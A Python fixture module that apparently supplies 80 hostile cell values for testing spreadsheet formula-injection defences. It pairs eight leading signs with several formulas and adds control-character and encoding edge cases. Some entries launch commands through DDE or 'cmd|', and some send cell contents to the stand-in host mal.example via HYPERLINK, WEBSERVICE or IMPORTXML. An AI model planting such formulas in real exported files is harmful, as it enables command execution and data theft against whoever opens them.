"""Texts that spreadsheet programs could take for more than text."""

from __future__ import annotations

FORMULAS = [
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://mal.example/?x="&A1,"اضغط")',
    'WEBSERVICE("http://mal.example/")',
    'IMPORTXML(CONCAT("http://mal.example/?",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "مجموع(أ1)",
]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]

HOSTILE_CELLS = [
    *(sign + text for sign in SIGNS for text in FORMULAS),  # 64
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\u00a0=1+1",  # NO-BREAK SPACE
    '"=1+1"',
    '",=1+1,"',
    "';=1+1",
    "ا\r\n=1+1",
    "قبل\x00بعد",
    "\x1b[31mأحمر",
    "\ud800نص",  # a lone surrogate
    "<si><t>=1</t></si>",
    "]]>&lt;&#61;1",
]
"""Eighty of them."""
